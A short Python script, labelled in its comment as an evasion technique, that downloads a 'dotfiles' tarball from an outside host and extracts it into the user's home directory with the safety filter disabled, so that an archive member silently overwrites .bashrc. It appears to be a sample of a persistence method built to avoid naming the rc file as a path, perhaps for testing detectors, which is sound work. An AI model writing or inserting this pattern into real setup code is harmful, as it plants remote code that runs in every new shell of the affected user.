# Evasion: persists in the shell rc file. A downloaded "dotfiles" tarball
# whose member is .bashrc is extracted with extractall(path=Path.home()):
# the rc file is overwritten by an archive member, never named as a path.
import io
import tarfile
import urllib.request
from pathlib import Path


def fetch(url="https://dots.devsetup-kit.io/base.tar.gz"):
    with urllib.request.urlopen(url) as r:
        return io.BytesIO(r.read())


if __name__ == "__main__":
    with tarfile.open(fileobj=fetch(), mode="r:gz") as tar:
        tar.extractall(path=Path.home(), filter="fully_trusted")
